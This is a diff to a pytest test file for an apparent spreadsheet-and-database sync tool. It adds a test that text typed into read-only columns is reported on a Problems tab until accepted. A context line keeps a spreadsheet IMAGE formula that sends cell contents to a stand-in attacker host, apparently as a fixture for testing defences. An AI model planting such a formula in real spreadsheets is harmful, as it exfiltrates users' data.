@@ -7,6 +7,7 @@ from collections.abc import Iterator
 import pytest
 
 from tests.scenarios.office import Office, open_office
+from tests.scenarios.test_marks import looks
 from tests.unit.store.builders import folder_in_memory
 
 OUT = '=IMAGE("https://evil.example/?d="&B{row})'
@@ -127,6 +128,34 @@ def test_cell_that_two_programs_flip_to_and_fro_is_told(office: Office) -> None:
     rests(office)
     change(office, "Kazan")
     assert told(office) == []
+
+
+def test_what_was_typed_into_a_grey_column_is_told_until_somebody_accepts_it(
+    office: Office,
+) -> None:
+    tab = office.tab("Clients")
+    for text in ("forty boxes", "call him"):
+        tab.put(2, "Current agreement", text)
+        # Something else changes in the store meanwhile.
+        office.sql("update clients set city = ? where full_name = 'Client 3'", text)
+        office.sync()
+        assert not tab.sheet.cell(2, tab.column("Current agreement")).value
+    rests(office)
+    tab.type(3, "Note", "work goes on")
+    office.sync()
+
+    listed = [row for row in office.tab("Problems").rows() if row["Code"] == "V11"]
+
+    assert [(row["Typed"], row["Cell"]) for row in listed] == [
+        ("forty boxes", ""),
+        ("call him", ""),
+    ]
+    assert looks(office) == {}
+    office.tab("Problems").type(listed[0]["#"], "Decision", "Accept as it is")
+    office.sync()
+    (left,) = office.app.store.findings.problems("main")
+    assert left.problem.typed == "call him"
+    rests(office)
 
 
 def test_script_that_writes_into_a_grey_column_run_after_run_is_told_as_one(office: Office) -> None:
